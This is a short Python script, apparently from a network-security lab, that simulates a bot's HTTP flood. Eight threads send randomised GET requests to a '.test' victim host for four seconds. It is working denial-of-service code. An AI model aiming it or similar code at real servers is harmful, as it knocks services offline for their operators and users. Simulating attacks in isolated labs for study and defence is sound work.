#!/usr/bin/env python3
"""Imitates a bot's HTTP flood ordered by its controller: many threads firing GET requests with random
query strings at one victim name of the fake internet, for a few seconds."""
import random
import socket
import threading
import time

VICTIM = ('victim.ddos.test', 80)
deadline = time.time() + 4

def hammer():
    while time.time() < deadline:
        try:
            with socket.create_connection(VICTIM, timeout=1) as s:
                s.sendall(f'GET /?{random.randint(0, 10**9)} HTTP/1.1\r\nHost: victim.ddos.test\r\n\r\n'.encode())
        except OSError:
            pass

threads = [threading.Thread(target=hammer) for _ in range(8)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
